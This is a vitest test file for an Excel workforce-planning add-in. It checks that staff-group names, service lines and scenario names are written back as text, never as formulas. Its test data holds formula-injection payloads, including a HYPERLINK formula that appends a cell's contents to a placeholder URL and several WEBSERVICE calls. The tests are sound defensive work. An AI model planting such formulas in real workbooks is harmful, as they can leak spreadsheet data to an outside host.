import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { registerWfpFunctions } from "../../engine/hyperformula.ts";
import { loadMetadata } from "../../engine/metadata.ts";
import { Workbook } from "../../engine/workbook.ts";
import { compareScenarios, runScenario, scenarioFromTables, triangulate } from "../../src/index.ts";
import { writeComparison } from "../../taskpane/adapter/comparison.ts";
import { writeScenarioResults } from "../../taskpane/adapter/results.ts";
import { listSavedScenarios, saveScenario, STORE_SHEET } from "../../taskpane/adapter/scenarioStore.ts";
import { installExcelGlobals } from "../../excelHost/index.ts";
import { addPlanTable, readLinkedTables } from "./plan.ts";

/*
 * Text in a planner's tables that Excel would read as a formula if it were
 * written back as a value: wfplan writes every string as text.
 */
const HOSTILE = ['=HYPERLINK("http://x/?"&Staff!A2,"Nursing")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+2", "\r=1+3"];

let model: Workbook;
beforeAll(async () => {
  registerWfpFunctions(await loadMetadata());
  model = new Workbook("Staff");
  addPlanTable(model, "Staff", "tblStaff", [
    ["Staff group", "Band", "Contracted hours"],
    ...HOSTILE.map((group) => [group, "Band 5", 37.5]),
  ]);
  addPlanTable(model, "Activity", "tblActivity", [
    ["Service line", "Total"],
    ['=WEBSERVICE("http://x")', 20000],
  ]);
  addPlanTable(model, "Standards", "tblStandards", [
    ["Service line", "Staff group", "Minutes per unit"],
    ...HOSTILE.map((group) => ['=WEBSERVICE("http://x")', group, 200]),
  ]);
  installExcelGlobals(model);
});
afterAll(() => {
  delete (globalThis as Record<string, unknown>).Excel;
  delete (globalThis as Record<string, unknown>).Office;
});

/** Every cell of a sheet that holds a formula. */
function formulasOn(sheet: string): string[] {
  const used = model.usedRange(sheet);
  if (!used) return [];
  return model
    .formulas(sheet, used)
    .flat()
    .filter((cell): cell is string => typeof cell === "string" && cell.startsWith("="));
}

describe("no workbook text becomes a formula", () => {
  it("the workbench reads a written value as Excel does: +, - and @ make a formula, an apostrophe keeps text", async () => {
    await Excel.run(async (context) => {
      const cells = context.workbook.worksheets.getItem("Staff").getRange("H1:H3");
      cells.values = [["+1+1"], ["'+1+1"], ["-7"]];
      await context.sync();
    });
    expect(model.values("Staff", { top: 0, left: 7, bottom: 2, right: 7 })).toEqual([[2], ["+1+1"], [-7]]);
    model.setContents("Staff", 0, 7, [[""], [""], [""]]);
  });

  it("writes staff groups, service lines, reasons and scenario names as text in results, comparison and store", async () => {
    const input = scenarioFromTables(await readLinkedTables(), {
      name: '=WEBSERVICE("http://x/name")',
      startYear: "2025/26",
      horizonYears: 2,
    });
    // Tables are read trimmed, as planners expect: the tab and carriage return go, the formula-like text stays.
    const names = HOSTILE.map((text) => text.trim());
    expect(input.staffGroups.map((g) => g.name)).toEqual(names);
    const result = runScenario(input);
    const checks = triangulate(result);
    expect(checks.checks.some((c) => !c.passed)).toBe(true); // the reasons name the hostile groups

    const { sheet } = await writeScenarioResults(result, checks);
    await saveScenario(input, "2026-11-24T10:00:00.000Z");
    const comparison = await writeComparison(compareScenarios([result]));

    for (const written of [sheet, comparison, STORE_SHEET]) expect(formulasOn(written), written).toEqual([]);
    const groups = [...new Set(model.values(sheet, { top: 4, left: 1, bottom: 3 + 2 * HOSTILE.length, right: 1 }).map((r) => r[0]))];
    expect(groups).toEqual(names);
    expect(model.values(sheet, { top: 0, left: 0, bottom: 0, right: 0 })[0]![0]).toBe(
      'Scenario: =WEBSERVICE("http://x/name"), 2025/26 to 2026/27',
    );
    expect((await listSavedScenarios())[0]!.input).toEqual(input);
  });

  it("names its results table clear of the workbook's defined names, which share the tables' namespace", async () => {
    const fresh = new Workbook("Staff");
    addPlanTable(fresh, "Staff", "tblStaff", [
      ["Staff group", "Band", "Contracted hours"],
      ["Nursing", "Band 5", 37.5],
    ]);
    addPlanTable(fresh, "Activity", "tblActivity", [
      ["Service line", "Total"],
      ["Bed days", 1000],
    ]);
    addPlanTable(fresh, "Standards", "tblStandards", [
      ["Service line", "Staff group", "Minutes per unit"],
      ["Bed days", "Nursing", 60],
    ]);
    fresh.addName("tblWfpResults", "=Staff!$A$1");
    installExcelGlobals(fresh);
    const input = scenarioFromTables(await readLinkedTables(), { name: "Names", startYear: "2025/26", horizonYears: 1 });
    const result = runScenario(input);
    expect((await writeScenarioResults(result, triangulate(result))).table).toBe("tblWfpResults2");
  });
});
